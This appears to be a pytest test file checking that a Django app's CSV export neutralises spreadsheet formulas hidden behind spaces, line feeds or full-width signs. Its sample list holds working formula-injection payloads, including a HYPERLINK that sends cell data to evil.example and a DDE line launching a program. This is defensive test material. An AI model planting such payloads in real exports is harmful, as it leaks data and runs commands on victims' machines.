"""Attacks that plant spreadsheet formulas in exported CSV: the guard quoted cells starting with
= + - @, tab or carriage return, but a leading space, a full-width ＝ or a line feed before the
formula still ran in some spreadsheets."""

import pytest
from django.urls import reverse

from accounts.csv_export import safe_cell
from contacts.models import Contact

pytestmark = pytest.mark.django_db

DISGUISED = [
    ' =HYPERLINK("http://evil.example/?"&A1)',
    "\u3000=1+1",  # ideographic space
    "＝1+1",  # full-width equals sign
    "＋1+1",
    "﹦1+1",  # small equals sign
    "\n=cmd|' /C calc'!A0",
    "\r\n@SUM(A1)",
    " \t -2+3",
]


@pytest.mark.parametrize("value", DISGUISED)
def test_a_formula_behind_spaces_or_in_full_width_is_neutralised(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ann Lee", " Ann", "+447700900101 ", "a=b", "１２３"])
def test_ordinary_text_is_left_alone(value):
    expected = "'" + value if value.startswith("+") else value
    assert safe_cell(value) == expected


def test_a_contact_named_with_a_disguised_formula_exports_as_text(client_for, workspace, sender):
    Contact.objects.create(workspace=workspace, name="＝HYPERLINK(1)", number="+447700900101")
    response = client_for(sender).get(reverse("contacts:export", kwargs={"slug": workspace.slug}))
    body = b"".join(response.streaming_content).decode()
    assert "'＝HYPERLINK(1)" in body
